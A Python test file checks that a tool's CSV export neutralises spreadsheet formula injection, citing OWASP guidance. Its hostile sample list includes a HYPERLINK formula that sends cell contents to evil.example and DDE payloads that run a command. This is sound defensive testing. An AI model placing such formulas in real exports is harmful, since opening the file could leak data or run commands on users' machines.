"""Exports a spreadsheet can open safely (issue 20 item 8).

OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): "This attack is
difficult to mitigate, and explicitly disallowed from quite a few bug bounty programs. To
remediate it, ensure that no cells begin with any of the following characters: Equals to
(=), Plus (+), Minus (-), At (@), Tab (0x09), Carriage return (0x0D)" and, so that the
content "will be read as text by the spreadsheet editor": "Wrap each cell field in double
quotes", "Prepend each cell field with a single quote", "Escape every double quote using
an additional double quote".
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from store_backends import chat_run as run
from store_backends import new_store, store, store_backend, store_maker

import workbench as wb
from workbench.store.copying import import_runs

__all__ = ["store_backend", "new_store", "store", "store_maker"]

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "\rleading carriage return",
    "'=already quoted once",
    "''@twice",
]
HARMLESS = ["plain answer", "'just a quote", "a = b", "", "x-y", "100"]


def _cells(path: Path, column: str) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [row[column] for row in csv.DictReader(file)]


def _fill(store: Any, outputs: list[str]) -> list[str]:
    ids = []
    for i, text in enumerate(outputs):
        record = run(i, output=text, prompt=text)
        store.append(record)
        ids.append(record.run_id)
    return ids


def test_csv_neutralises_formulas_and_reads_back_exact(store: Any, tmp_path: Path) -> None:
    _fill(store, HOSTILE + HARMLESS)
    target = store.export(tmp_path / "runs.csv")
    cells = _cells(target, "output")
    for cell in cells[: len(HOSTILE)]:
        # What a spreadsheet sees: text behind a quote, never a formula.
        assert cell.startswith("'"), cell
        assert cell[1:] in HOSTILE
    assert cells[len(HOSTILE) :] == HARMLESS  # nothing else is touched
    assert _cells(target, "prompt") == cells  # every text column, not only the output
    # The file still reads back as the runs it was written from.
    other = tmp_path / "other.db"
    with wb.store.SQLiteStore(other) as copy:
        import_runs(copy, target)
        assert sorted(copy.runs()["output"]) == sorted(HOSTILE + HARMLESS)


def test_csv_keeps_formulas_raw_when_asked(store: Any, tmp_path: Path) -> None:
    _fill(store, HOSTILE)
    target = store.export(tmp_path / "raw.csv", keep_formulas=True)
    assert _cells(target, "output") == HOSTILE


@pytest.mark.parametrize("suffix", ["jsonl", "parquet"])
def test_jsonl_and_parquet_stay_exact(store: Any, tmp_path: Path, suffix: str) -> None:
    _fill(store, HOSTILE)
    target = store.export(tmp_path / f"runs.{suffix}")
    if suffix == "jsonl":
        frame = pd.read_json(target, lines=True, dtype=False)
    else:
        frame = pd.read_parquet(target)
    assert list(frame["output"]) == HOSTILE


def test_wb_export_takes_the_option(isolated_store: Path, tmp_path: Path) -> None:
    with wb.store.SQLiteStore(isolated_store) as table:
        _fill(table, ["=1+1"])
    assert _cells(wb.export(tmp_path / "safe.csv"), "output") == ["'=1+1"]
    assert _cells(wb.export(tmp_path / "raw.csv", keep_formulas=True), "output") == ["=1+1"]
